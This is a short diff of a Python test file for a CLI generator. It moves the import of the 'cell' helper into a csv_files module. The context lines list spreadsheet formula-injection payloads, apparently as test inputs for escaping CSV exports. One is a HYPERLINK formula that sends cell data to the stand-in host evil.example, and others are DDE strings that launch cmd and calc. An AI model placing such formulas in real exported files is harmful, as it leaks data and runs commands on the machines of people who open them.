@@ -12,7 +12,7 @@ from click.testing import CliRunner
 from generator.cli import cli
 from generator.errors import ConfigError
 from generator.identity import IdentityAudit, IdentityRules, caller_named, person_of
-from generator.site.export import cell
+from generator.site.csv_files import cell
 from generator.timer import units
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
